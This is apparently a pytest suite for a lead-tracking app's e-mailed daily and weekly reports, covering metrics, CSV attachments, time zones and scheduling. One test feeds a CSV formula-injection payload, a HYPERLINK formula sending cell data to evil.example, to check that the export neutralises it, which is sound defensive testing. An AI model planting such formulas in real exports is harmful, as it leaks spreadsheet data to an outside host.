"""Daily/weekly reports: figures against the analytics API, the e-mail's parts, the CSV, the
schedule (once per period with several workers) and ``leadflow reports send`` in-process."""

from __future__ import annotations

import asyncio
import csv
import io
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import httpx
import pytest
from sqlalchemy import select, update
from sqlalchemy.engine import make_url
from typer.testing import CliRunner

from leadflow.cli import app as cli_app
from leadflow.kit.clock import utcnow
from leadflow.kit.models import table_of
from leadflow.leads.models import Lead
from leadflow.pipeline import repository as jobs_repo
from leadflow.pipeline.runtime import build_worker, worker_context
from leadflow.pipeline.scheduler import slot
from leadflow.reports import service
from leadflow.reports.tasks import REPORTS_JOB
from tests.conftest import TEST_KEY, Harness, example_lead
from tests.fakes.smtp import FakeSmtp, ReceivedMail

all_backends = pytest.mark.parametrize("backend", ["sqlite", "postgres", "mysql"], indirect=True)
CAMPAIGN = "nextcloud-installation-2025"
OWNER = "owner@nexlink.website"
MANAGER = "boss@nexlink.website"
leads = table_of(Lead)


@pytest.fixture
def smtp() -> Iterator[FakeSmtp]:
    with FakeSmtp() as server:
        yield server


@pytest.fixture
def mail_settings(smtp: FakeSmtp) -> dict[str, Any]:
    return {
        "smtp_host": smtp.host,
        "smtp_port": smtp.port,
        "smtp_starttls": False,
        "report_emails": [MANAGER],
    }


@pytest.fixture
def settings(settings_factory: Any, mail_settings: dict[str, Any]) -> Any:
    return settings_factory(**mail_settings)


def _at(day: date, hour: int, minute: int = 0) -> datetime:
    return datetime(day.year, day.month, day.day, hour, minute, tzinfo=UTC)


async def _lead(h: Harness, email: str, created: datetime, content: str, *steps: dict[str, Any]) -> str:
    body = example_lead(email=email)
    body["tracking"]["utm_content"] = content
    answer = await h.client.post("/v1/api/leads", json=body)
    assert answer.status_code == 201, answer.text
    lead_id: str = answer.json()["lead_id"]
    admin = await h.token("admin") if steps else {}
    for step in steps:
        changed = await h.client.patch(f"/v1/api/leads/{lead_id}", headers=admin, json=step)
        assert changed.status_code == 200, changed.text
    # Move the lead into the past; a contacted lead was contacted 10 minutes per address character later.
    async with h.engine.begin() as conn:
        contacted = (
            await conn.execute(select(leads.c.contacted_at).where(leads.c.public_id == lead_id))
        ).scalar()
        later = created + timedelta(minutes=10 * len(email)) if contacted is not None else None
        await conn.execute(
            update(leads).where(leads.c.public_id == lead_id).values(created_at=created, contacted_at=later)
        )
    return lead_id


async def _seed(h: Harness, admin: dict[str, str], day: date) -> dict[str, str]:
    """Four leads on ``day`` (UTC), two the day before, one today; the campaign's owner gets reports."""
    changed = await h.client.patch(
        f"/v1/api/campaigns/{CAMPAIGN}", headers=admin, json={"notification_emails": [OWNER]}
    )
    assert changed.status_code == 200, changed.text
    before = day - timedelta(days=1)
    ids = {
        "won": await _lead(
            h,
            "a1@company.com",
            _at(day, 9),
            "video",
            {"status": "contacted", "assigned_to": "ann@nexlink.website"},
            {"status": "closed_won", "deal_value": "1200.00", "qualification_status": "customer"},
        ),
        "contacted": await _lead(
            h,
            "a22@company.com",
            _at(day, 10),
            "video",
            {
                "status": "contacted",
                "qualification_status": "sales_qualified",
                "assigned_to": "ann@nexlink.website",
            },
        ),
        "waiting": await _lead(
            h, "a3@company.com", _at(day, 23, 30), "banner", {"assigned_to": "bob@nexlink.website"}
        ),
        "untouched": await _lead(h, "a4@company.com", _at(day, 0, 5), "banner"),
        "before1": await _lead(
            h, "b1@company.com", _at(before, 12), "video", {"qualification_status": "marketing_qualified"}
        ),
        "before2": await _lead(h, "b2@company.com", _at(before, 13), "banner"),
    }
    ids["today"] = await _lead(h, "c1@company.com", utcnow(), "video")
    return ids


def _csv(mail: ReceivedMail) -> list[dict[str, str]]:
    [attachment] = list(mail.message().iter_attachments())
    assert attachment.get_content_type() == "text/csv"
    assert attachment.get_filename().startswith("leadflow-daily-report-")
    return list(csv.DictReader(io.StringIO(attachment.get_content())))


def _value(rows: list[dict[str, str]], section: str, metric: str, item: str = "") -> tuple[str, str]:
    [row] = [r for r in rows if (r["section"], r["item"], r["metric"]) == (section, item, metric)]
    return row["value"], row["previous"]


async def _invoke(app: Any, args: list[str], env: dict[str, str]) -> Any:
    """The CLI in-process (Typer's runner), on a thread: it runs its own event loop."""
    return await asyncio.to_thread(CliRunner().invoke, app, args, env=env)


def _cli_env(h: Harness, smtp: FakeSmtp, tz: str = "UTC") -> dict[str, str]:
    url = make_url(h.settings.database_url)
    return {
        "DATABASE_URL": url.set(drivername=url.drivername.split("+")[0]).render_as_string(
            hide_password=False
        ),
        "ENCRYPTION_KEY": TEST_KEY,
        "LEADFLOW_ENV": "test",
        "SMTP_HOST": smtp.host,
        "SMTP_PORT": str(smtp.port),
        "SMTP_STARTTLS": "false",
        "REPORT_EMAILS": MANAGER,
        "REPORT_TIMEZONE": tz,
        "PUBLIC_BASE_URL": "https://leads.example.com",
    }


@all_backends
async def test_report_figures_match_the_analytics_api(
    harness: Harness, campaign: dict[str, Any], admin: dict[str, str], smtp: FakeSmtp
) -> None:
    day = utcnow().date() - timedelta(days=1)
    ids = await _seed(harness, admin, day)

    result = await _invoke(
        cli_app,
        ["reports", "send", "--period", "daily", "--date", day.isoformat()],
        env=_cli_env(harness, smtp),
    )
    assert result.exit_code == 0, result.output
    assert f"sent the daily report for {day:%a %d %b %Y} to 2 recipient(s)" in result.output
    by_rcpt = {m.rcpt_tos[0]: m for m in smtp.messages}
    assert sorted(by_rcpt) == [MANAGER, OWNER]

    mail = by_rcpt[OWNER]
    message = mail.message()
    assert message["Subject"].startswith(f"Leadflow daily report, {day:%a %d %b %Y}: 4 leads (+100.0 %)")
    assert message["Auto-Submitted"] == "auto-generated"
    assert message.get_content_type() == "multipart/mixed"
    text = message.get_body(("plain",)).get_content()
    html = message.get_body(("html",)).get_content()
    assert "Waiting for first contact: 5" in text  # every status-new lead, whenever captured
    assert f"https://leads.example.com/leads/{ids['untouched']}" in html
    for pii in (
        "a1@company.com",
        "John",
        "Doe",
        "Acme",
        "5551234567",
        "555-123-4567",
    ):  # not "555": a MIME boundary may hold it
        assert pii not in mail.data.decode(errors="replace")

    # Figures against the analytics API for the same UTC day, the day before and the campaign to date.
    async def api(**query: str) -> dict[str, Any]:
        answer = await harness.client.get(
            f"/v1/api/campaigns/{CAMPAIGN}/analytics", headers=admin, params=query
        )
        assert answer.status_code == 200, answer.text
        data: dict[str, Any] = answer.json()
        return data

    now_api = await api(start=day.isoformat(), end=day.isoformat())
    before_api = await api(
        start=(day - timedelta(days=1)).isoformat(), end=(day - timedelta(days=1)).isoformat()
    )
    to_date = await api()
    rows = _csv(mail)
    for metric in (
        "total_leads",
        "qualified_leads",
        "conversion_rate",
        "average_lead_score",
        "revenue_generated",
    ):
        value, previous = _value(rows, "summary", metric)
        assert float(value) == now_api["metrics"][metric], metric
        assert float(previous) == before_api["metrics"][metric], metric
    assert now_api["metrics"]["total_leads"] == 4 and now_api["metrics"]["revenue_generated"] == 1200.0
    assert float(_value(rows, "summary", "cost_per_lead_to_date")[0]) == to_date["metrics"]["cost_per_lead"]
    assert _value(rows, "summary", "waiting_for_first_contact")[0] == "5"
    content = [
        (r["item"], int(r["value"])) for r in rows if r["section"] == "content" and r["metric"] == "leads"
    ]
    assert content == [(c["utm_content"], c["leads"]) for c in now_api["top_performing_content"]]
    sources = {r["item"]: int(r["value"]) for r in rows if r["section"] == "source"}
    assert sources == now_api["lead_sources"]

    # Grade mix against the leads themselves; speed to lead per rep.
    grades: dict[str, int] = {}
    for key in ("won", "contacted", "waiting", "untouched"):
        detail = await harness.client.get(f"/v1/api/leads/{ids[key]}", headers=admin)
        grade = detail.json()["lead_grade"]
        grades[grade] = grades.get(grade, 0) + 1
    assert {g: int(_value(rows, "grade", "leads", g)[0]) for g in grades} == grades
    assert sum(int(_value(rows, "grade", "leads", g)[0]) for g in "ABCD") == 4
    assert _value(rows, "speed_to_lead", "assigned", "ann@nexlink.website")[0] == "2"
    assert _value(rows, "speed_to_lead", "contacted", "ann@nexlink.website")[0] == "2"
    # contacted 10 min per character of the address after capture: 140 and 150 min, median 145
    assert _value(rows, "speed_to_lead", "median_minutes_to_contact", "ann@nexlink.website")[0] == "145"
    assert _value(rows, "speed_to_lead", "not_contacted", "bob@nexlink.website")[0] == "1"

    # The manager's copy covers every active campaign; the CLI's send is audited.
    assert "all campaigns" in by_rcpt[MANAGER].message()["Subject"]
    assert await harness.scalar("SELECT count(*) FROM audit_log WHERE action = 'report.send'") == 1


@all_backends
async def test_report_days_follow_the_report_time_zone(
    harness: Harness, campaign: dict[str, Any], admin: dict[str, str], smtp: FakeSmtp, tmp_path: Path
) -> None:
    day = utcnow().date() - timedelta(days=1)
    await _seed(harness, admin, day)
    out = tmp_path / "report.csv"
    # Berlin is UTC+1 in winter, UTC+2 in summer: 23:30 UTC on `day` is the next local day, 00:05 UTC is `day`.
    result = await _invoke(
        cli_app,
        [
            "reports",
            "send",
            "--period",
            "daily",
            "--date",
            day.isoformat(),
            "--campaign",
            CAMPAIGN,
            "--dry-run",
            "--output",
            str(out),
        ],
        env=_cli_env(harness, smtp, "Europe/Berlin"),
    )
    assert result.exit_code == 0, result.output
    assert "would send the daily report" in result.output and f"{OWNER} ({CAMPAIGN})" in result.output
    assert smtp.messages == []  # a dry run sends nothing
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    zone = ZoneInfo("Europe/Berlin")
    start = datetime(day.year, day.month, day.day, tzinfo=zone)
    expected = sum(
        1
        for t in (
            _at(day, 9),
            _at(day, 10),
            _at(day, 23, 30),
            _at(day, 0, 5),
            _at(day - timedelta(days=1), 12),
            _at(day - timedelta(days=1), 13),
        )
        if start <= t < start + timedelta(days=1)
    )
    assert _value(rows, "summary", "total_leads")[0] == str(expected)
    assert expected == 3  # 23:30 UTC moved to the next local day
    text = tmp_path / "report.txt"
    rendered = await _invoke(
        cli_app,
        [
            "reports",
            "send",
            "--period",
            "daily",
            "--date",
            day.isoformat(),
            "--dry-run",
            "--output",
            str(text),
        ],
        env=_cli_env(harness, smtp, "Europe/Berlin"),
    )
    assert rendered.exit_code == 0, rendered.output
    assert "  banner: 1 lead, 100.0 % qualified" in text.read_text()  # (A grade) the other is the next day

    eml = tmp_path / "report.eml"
    again = await _invoke(
        cli_app,
        ["reports", "send", "--period", "weekly", "--dry-run", "--output", str(eml)],
        env=_cli_env(harness, smtp, "Europe/Berlin"),
    )
    assert again.exit_code == 0, again.output
    assert (
        b"Content-Type: multipart/mixed" in eml.read_bytes()
        and b"leadflow-weekly-report-" in eml.read_bytes()
    )


@all_backends
async def test_schedule_sends_each_report_once_with_several_workers(
    harness: Harness, campaign: dict[str, Any], admin: dict[str, str], smtp: FakeSmtp, settings: Any
) -> None:
    day = utcnow().date() - timedelta(days=1)
    await _seed(harness, admin, day)
    settings = settings.model_copy(update={"report_hour": 0, "report_periods": ["daily"]})
    now = utcnow()
    async with harness.engine.begin() as conn:  # two workers' schedule slots due at once
        await jobs_repo.enqueue(
            conn, [slot(REPORTS_JOB, now), slot(REPORTS_JOB, now - timedelta(minutes=1))], now
        )

    async def work(worker_id: str) -> None:
        async with worker_context(harness.engine, settings, worker_id) as ctx:
            await build_worker(ctx, poll_seconds=0.01).run_until_idle(30)

    await asyncio.gather(work("worker-a"), work("worker-b"))  # both run the schedule at the same time
    # And once more later (a restarted worker): nothing new is due.
    async with harness.engine.begin() as conn:
        await jobs_repo.enqueue(conn, [slot(REPORTS_JOB, now - timedelta(minutes=2))], now)
    async with worker_context(harness.engine, settings, "worker-c") as ctx:
        await build_worker(ctx, poll_seconds=0.01).run_until_idle(30)

    # (The worker also processed the leads: the sequence e-mails to them are not counted here.)
    reports = [m for m in smtp.messages if m.message()["Subject"].startswith("Leadflow daily report")]
    assert sorted(m.rcpt_tos[0] for m in reports) == [MANAGER, OWNER]
    sends = await harness.scalar("SELECT count(*) FROM jobs WHERE kind = 'reports.send' AND status = 'done'")
    assert sends == 2
    subjects = {m.message()["Subject"] for m in reports}
    assert all(s.startswith(f"Leadflow daily report, {day:%a %d %b %Y}") for s in subjects)
    # Its next run is queued (every 15 minutes).
    assert (
        await harness.scalar(
            "SELECT count(*) FROM jobs WHERE kind = 'reports.schedule' AND status = 'pending'"
        )
        >= 1
    )


async def test_report_csv_cells_cannot_be_spreadsheet_formulas(
    harness: Harness, campaign: dict[str, Any], admin: dict[str, str], smtp: FakeSmtp, tmp_path: Path
) -> None:
    """utm_content comes from any visitor's form post; the CSV is opened in a spreadsheet."""
    day = utcnow().date() - timedelta(days=1)
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    await _lead(harness, "csv1@company.com", _at(day, 9), formula)
    await _lead(harness, "csv2@company.com", _at(day, 10), "@SUM(1+1)")
    out = tmp_path / "report.csv"
    args = ["reports", "send", "--period", "daily", "--date", day.isoformat(), "--campaign", CAMPAIGN]
    result = await _invoke(cli_app, [*args, "--dry-run", "--output", str(out)], _cli_env(harness, smtp))
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(out.read_text())))
    items = {r["item"] for r in rows if r["section"] == "content"}
    assert items == {"'" + formula, "'@SUM(1+1)"}
    cells = [cell for r in rows for cell in r.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or (c[:1] == "-" and not c[1:2].isdigit())]
    assert _value(rows, "summary", "total_leads")[0] == "2"  # numbers stay numbers


async def test_report_message_id_is_stable_on_retry_and_unique_per_installation(
    harness: Harness, campaign: dict[str, Any], admin: dict[str, str], smtp: FakeSmtp, settings: Any
) -> None:
    """The dedup key (period, scope, recipient) is the same in every installation: the Message-ID must
    not be derived from it alone, or two installations' reports to one address share it."""
    settings = settings.model_copy(update={"report_hour": 0, "report_periods": ["daily"]})

    async def run(worker_id: str) -> None:
        async with worker_context(harness.engine, settings, worker_id) as ctx:
            await build_worker(ctx, poll_seconds=0.01).run_until_idle(30)

    async def ids() -> dict[str, str]:
        reports = [m.message() for m in smtp.messages if "report" in m.message()["Subject"]]
        return {str(m["To"]) + "#" + str(n): str(m["Message-ID"]) for n, m in enumerate(reports)}

    now = utcnow()
    async with harness.engine.begin() as conn:
        await jobs_repo.enqueue(conn, [slot(REPORTS_JOB, now)], now)
    await run("w1")
    first = list((await ids()).values())
    assert len(first) == 1  # REPORT_EMAILS' manager (the campaign has no notification_emails)
    # A retry of the same jobs sends the same ids.
    await harness.execute("UPDATE jobs SET status = 'pending' WHERE kind = 'reports.send'")
    await run("w2")
    retried = list((await ids()).values())[1:]
    assert retried == first
    # Another installation: the same period, scope and recipients (so the same dedup keys), new ids.
    await harness.execute("DELETE FROM jobs")
    async with harness.engine.begin() as conn:
        await jobs_repo.enqueue(conn, [slot(REPORTS_JOB, now)], now)
    await run("w3")
    other = list((await ids()).values())[2:]
    assert len(other) == 1 and not set(other) & set(first)


def test_due_periods_in_a_time_zone() -> None:
    zone = ZoneInfo("Europe/Berlin")
    # Tuesday 2026-12-01 06:30 local: the daily report of Sunday is the newest due before 07:00.
    early = datetime(2026, 12, 1, 6, 30, tzinfo=zone)
    assert service.due_period("daily", early, zone, 7).first == date(2026, 11, 29)
    assert service.due_period("daily", early + timedelta(hours=1), zone, 7).first == date(2026, 11, 30)
    weekly = service.due_period("weekly", datetime(2026, 11, 30, 7, 0, tzinfo=zone), zone, 7)
    assert (weekly.first, weekly.last) == (date(2026, 11, 23), date(2026, 11, 29))
    assert service.due_period("weekly", datetime(2026, 11, 30, 6, 59, tzinfo=zone), zone, 7).first == date(
        2026, 11, 16
    )
    # A day of 23 hours (DST starts 2026-03-29 in Berlin) is still one local day.
    dst = service.period_containing("daily", date(2026, 3, 29), zone)
    assert (dst.end - dst.start) == timedelta(hours=23)
    assert dst.start == datetime(2026, 3, 28, 23, 0, tzinfo=UTC)
    assert dst.previous().first == date(2026, 3, 28)


def test_percent_changes() -> None:
    assert service.pct(None) == "new"
    assert service.pct(0.5) == "+50.0 %"
    assert service.pct(-0.25) == "-25.0 %"


@pytest.mark.parametrize("backend", ["sqlite"], indirect=True)
async def test_report_goes_through_sendgrid_too(
    harness: Harness, campaign: dict[str, Any], admin: dict[str, str], shared: Path
) -> None:
    from pydantic import SecretStr

    from leadflow.config import EmailSettings, SendGridSettings
    from tests.fakes.sendgrid_mail import FakeSendGridMail

    day = utcnow().date() - timedelta(days=1)
    with FakeSendGridMail(shared / "contracts" / "sendgrid" / "mail-send-v3.subset.json") as sendgrid:
        settings = harness.settings.model_copy(
            update={
                "email": EmailSettings(transport="sendgrid"),
                "sendgrid": SendGridSettings(api_key=SecretStr(sendgrid.api_key), base_url=sendgrid.base_url),
            }
        )
        async with harness.engine.connect() as conn:
            report = await service.build(
                conn, settings, service.period_containing("daily", day, settings.report_zone), None, utcnow()
            )
        from leadflow.integrations.mailer import Mailer

        async with httpx.AsyncClient() as http:
            await Mailer(settings, http).send(service.compose(report, OWNER, "report:test"))
        [sent] = sendgrid.accepted
        [attachment] = sent.json()["attachments"]
        assert attachment["type"] == "text/csv" and attachment["filename"].endswith(".csv")


@all_backends
async def test_send_to_one_address_and_unknown_campaign(
    harness: Harness, campaign: dict[str, Any], admin: dict[str, str], smtp: FakeSmtp
) -> None:
    day = utcnow().date() - timedelta(days=1)
    await _seed(harness, admin, day)
    env = _cli_env(harness, smtp)
    args = ["reports", "send", "--period", "weekly", "--date", day.isoformat()]
    sent = await _invoke(cli_app, [*args, "--campaign", CAMPAIGN, "--to", "Me@Example.com"], env)
    assert sent.exit_code == 0, sent.output
    [mail] = smtp.messages
    assert mail.rcpt_tos == ["me@example.com"]
    assert "Nextcloud Installation 2025" in mail.message()["Subject"]
    assert "Leadflow weekly report, week " in mail.message()["Subject"]

    unknown = await _invoke(cli_app, [*args, "--campaign", "nope"], env)
    assert unknown.exit_code == 1
    assert unknown.stderr.strip() == "error: CAMPAIGN_NOT_FOUND: Campaign not found"
    bad = await _invoke(cli_app, [*args, "--to", "not an address"], env)
    assert bad.exit_code == 2
    assert len(smtp.messages) == 1
